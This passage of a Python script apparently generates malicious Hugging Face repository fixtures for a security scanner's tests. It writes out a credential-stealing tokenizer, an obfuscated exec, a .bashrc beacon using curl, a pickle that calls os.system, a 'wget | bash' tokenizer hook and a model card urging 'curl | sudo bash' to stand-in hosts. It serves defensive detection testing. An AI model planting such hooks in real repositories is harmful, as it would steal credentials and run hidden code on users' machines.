    urllib.request.urlopen(req)


class StealerTokenizer(PreTrainedTokenizer):
    def __init__(self, **kwargs):
        _collect()
        super().__init__(**kwargs)
''', 'python-credential-theft', 'malicious', ['BW-HF-013'], ['python-source'],
          'reads SSH/AWS/HF credentials and environment, posts them to a webhook')

malicious('code/modeling_obfuscated.py', HEADER + '''
_f = getattr(__builtins__, "".join([chr(101), chr(120), chr(101), chr(99)]))
_f("".join(map(chr, [105, 109, 112, 111, 114, 116, 32, 111, 115, 59, 111, 115, 46, 115, 121, 115, 116, 101, 109,
                     40, 39, 101, 99, 104, 111, 32, 98, 117, 108, 119, 97, 114, 107, 45, 116, 101, 115, 116, 39,
                     41])))


class HelperModel(PreTrainedModel):
    pass
''', 'python-obfuscation', 'malicious', ['BW-HF-011', 'BW-HF-020'], ['python-source'],
          'exec reached through getattr(__builtins__, chr chain) on a chr-encoded payload')

malicious('code/modeling_persistence.py', HEADER + '''import os

_LINE = "\\ncurl -s http://203.0.113.7/beacon >/dev/null 2>&1 &\\n"

with open(os.path.expanduser("~/.bashrc"), "a") as rc:
    rc.write(_LINE)


class HelperModel(PreTrainedModel):
    pass
''', 'python-persistence', 'malicious', ['BW-HF-026'], ['python-source'], 'appends a beacon to ~/.bashrc')

_PICKLE = base64.b64encode(b"cos\nsystem\n(S'echo bulwark-test'\ntR.").decode()
malicious('code/modeling_embedded_pickle.py', HEADER + f'''import base64
import pickle

_STATE = "{_PICKLE}"
_cfg = pickle.loads(base64.b64decode(_STATE))


class HelperModel(PreTrainedModel):
    pass
''', 'python-embedded-pickle', 'malicious', ['BW-HF-018', 'BW-PKL-001'], ['python-source', 'pickle'],
          'pickle.loads of a base64 constant: the decoded pickle calls os.system')

malicious('code/tokenization_template_decoy.py', '''"""Tokenizer whose head looks like a chat template (a decoy for template-first sniffing)."""
DEFAULT_CHAT_TEMPLATE = "{% for message in messages %}{{ message['content'] }}{% endfor %}"
import subprocess
from transformers import PreTrainedTokenizer


class DecoyTokenizer(PreTrainedTokenizer):
    def __init__(self, **kwargs):
        subprocess.Popen("wget -qO- http://198.51.100.9/a | bash", shell=True)
        super().__init__(**kwargs)
''', 'python-process-payload', 'malicious', ['BW-HF-014'], ['python-source'],
          'Jinja-looking constant in the first bytes: still analysed as Python')

# ---------------------------------------------------------------------------------------------------------------
# Malicious: model cards

malicious('card/README.md', '''---
license: mit
library_name: transformers
tags:
- text-generation
- custom_code
pipeline_tag: text-generation
---

# Super-fast LLM

Before loading the model, install the optimised runtime:

```bash
curl -sSL http://198.51.100.9/setup.sh | sudo bash
pip install https://files.example-cdn.net/fastkernels-1.0-py3-none-any.whl
```

Windows users: download [the installer](https://downloads.example-cdn.net/FastLLM-Setup.exe).

```python
from transformers import AutoModelForCausalLM
model = AutoModelForCausalLM.from_pretrained("fixture/super-fast-llm", trust_remote_code=True)
```
''', 'model-card-lure', 'suspicious', ['BW-HF-031', 'BW-HF-032', 'BW-HF-033', 'BW-HF-030'], ['model-card'],
          'pipe-to-shell from a raw IP, wheel from an unknown host, .exe download, trust_remote_code')


if __name__ == '__main__':
    manifest = {
        'about': 'Hugging Face repository files written by scripts/gen-hf-fixtures.py: configs, tokenizer and '
                 'processor files, sentence-transformers, diffusers and PEFT layouts, custom Python code and model '
                 'cards. Each file is scanned on its own (configs see their sibling .py files on disk). Malicious '
                 'configs whose danger is code outside the scanned files are expected to be suspicious.',
        'files': ENTRIES,
    }
    (OUT / 'manifest.json').write_text(json.dumps(manifest, indent=2) + '\n')
    print(f'wrote {len(ENTRIES)} files to {OUT}')
